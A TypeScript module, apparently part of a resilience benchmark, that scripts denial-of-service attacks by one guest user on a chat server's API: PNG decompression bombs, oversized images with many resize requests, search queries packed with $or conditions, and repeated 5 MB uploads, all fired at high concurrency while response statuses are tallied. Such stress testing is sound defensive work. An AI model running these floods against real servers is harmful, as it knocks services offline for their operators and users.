/** Attacks of one guest within the server's default limits. */
import { randomBytes } from 'node:crypto';
import { Agent } from 'node:http';
import { performance } from 'node:perf_hooks';
import { largePng } from './large-png.ts';
import type { Person, Target } from './people.ts';
import { post } from './plain-request.ts';

/** Concurrent requests of each attack: more than the server handles at once. */
const IN_FLIGHT = { pictures: 4, searches: 32, uploads: 4 } as const;
const FILE_BYTES = 5_000_000;
/** Scaled-down sizes requested with each picture. */
const SIZES = [4096, 3500, 3000, 2500, 2000].map((side) => ({ width: side, height: side, resize: 'scale' }));
const BOMB = { width: 10_000, height: 9_990, bitDepth: 8, interlaced: false } as const;
/** 31.9 megapixels, the most that the server reads. One picture takes too much memory; the other is read whole. */
const WORST_ALLOWED = { width: 5_700, height: 5_600, bitDepth: 16, interlaced: true } as const;
const LARGEST_READ = { ...WORST_ALLOWED, bitDepth: 8, interlaced: false } as const;
const CUSTOM_CONDITIONS = 95;
const NAMES = 97;
/** Most values of one list in a filter. */
const IDS = 500;
/** Pause after a refusal, ms. A script retries at once; the pause keeps it from burning its own processor. */
const PAUSE_MS = 20;
const OK = 200;
const REFUSED = 300;

export interface AttackOrder {
  readonly target: Target;
  /** The hostile guest, in the room. */
  readonly guest: Person;
  /** Ids of users whose names are searched. */
  readonly userIds: readonly string[];
  readonly ms: number;
}

/** Number of answers by status; 0 for a connection that broke off. */
export type Answers = Readonly<Record<string, number>>;

interface Shot {
  readonly path: string;
  readonly method?: 'GET' | 'POST';
  readonly query?: Readonly<Record<string, string>>;
  readonly type?: string;
  readonly body?: Buffer;
}

interface Bombs {
  readonly bomb: Buffer;
  readonly worst: Buffer;
  readonly large: Buffer;
}

/** Files are made before the attack, because that takes seconds. */
let made: Bombs | null = null;

export async function prepare(): Promise<Bombs> {
  made ??= {
    bomb: await largePng(BOMB),
    worst: await largePng(WORST_ALLOWED),
    large: await largePng(LARGEST_READ),
  };
  return made;
}

export async function pictures(order: AttackOrder): Promise<Answers> {
  const { bomb, worst, large } = await prepare();
  const shots = [bomb, bomb, bomb, worst, large].map((png) =>
    upload(order.guest, 'image', { name: 'a.png', type: 'image/png', content: png, sizes: SIZES }),
  );
  return fire(order, shots, IN_FLIGHT.pictures);
}

export function searches(order: AttackOrder): Promise<Answers> {
  const conditions = Array.from({ length: CUSTOM_CONDITIONS }, (_, n) => ({ [`field_${n}`]: `value ${n}` }));
  const names = Array.from({ length: NAMES }, (_, n) => ({ name: { $q: `nobody${n}` } }));
  const { type, channelId } = order.guest;
  const messages = {
    filter_conditions: { cid: `${type}:${channelId}` },
    message_filter_conditions: { $or: conditions },
  };
  const users = {
    filter_conditions: { $and: [{ id: { $in: order.userIds.slice(0, IDS) } }, { $or: names }] },
  };
  const members = { type, id: channelId, filter_conditions: { $or: names } };
  const asked = [
    ['/search', messages],
    ['/users', users],
    ['/members', members],
  ] as const;
  const shots = asked.map(
    ([path, payload]): Shot => ({ path, method: 'GET', query: { payload: JSON.stringify(payload) } }),
  );
  return fire(order, shots, IN_FLIGHT.searches);
}

export function uploads(order: AttackOrder): Promise<Answers> {
  const content = randomBytes(FILE_BYTES);
  const file = upload(order.guest, 'file', { name: 'a.bin', type: 'application/octet-stream', content });
  return fire(order, [file], IN_FLIGHT.uploads);
}

interface File {
  readonly name: string;
  readonly type: string;
  readonly content: Buffer;
  readonly sizes?: object;
}

function upload({ type, channelId }: Person, kind: 'image' | 'file', file: File): Shot {
  const boundary = 'bench-boundary';
  const part = (head: string, content: string | Buffer) => [
    Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; ${head}\r\n\r\n`),
    Buffer.from(content as string),
    Buffer.from('\r\n'),
  ];
  const head = `name="file"; filename="${file.name}"\r\ncontent-type: ${file.type}`;
  const sizes = file.sizes === undefined ? [] : part('name="upload_sizes"', JSON.stringify(file.sizes));
  const body = Buffer.concat([...sizes, ...part(head, file.content), Buffer.from(`--${boundary}--\r\n`)]);
  const path = `/channels/${type}/${channelId}/${kind}`;
  return { path, type: `multipart/form-data; boundary=${boundary}`, body };
}

/** Sends the shots again and again until the time is over, with a fixed number in flight. */
async function fire(
  { target, guest, ms }: AttackOrder,
  shots: readonly Shot[],
  inFlight: number,
): Promise<Answers> {
  const agent = new Agent({ keepAlive: true, maxSockets: inFlight });
  const answers: Record<string, number> = {};
  const end = performance.now() + ms;
  let next = 0;
  async function one(): Promise<void> {
    while (performance.now() < end) {
      const shot = shots[next % shots.length];
      next += 1;
      if (shot === undefined) return;
      const { path, query, ...rest } = shot;
      const asked = new URLSearchParams({ ...query, api_key: target.key, user_id: guest.userId });
      const url = `${target.url}${path}?${asked}`;
      const status = await post({ agent, url, token: guest.token, ...rest }).catch(() => 0);
      answers[status] = (answers[status] ?? 0) + 1;
      if (status < OK || status >= REFUSED) await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
    }
  }
  const over = new Promise<void>((resolve) => setTimeout(resolve, ms));
  // A script does not wait for the answers to its last requests; those connections break off.
  await Promise.race([over, Promise.all(Array.from({ length: inFlight }, one))]);
  agent.destroy();
  return answers;
}
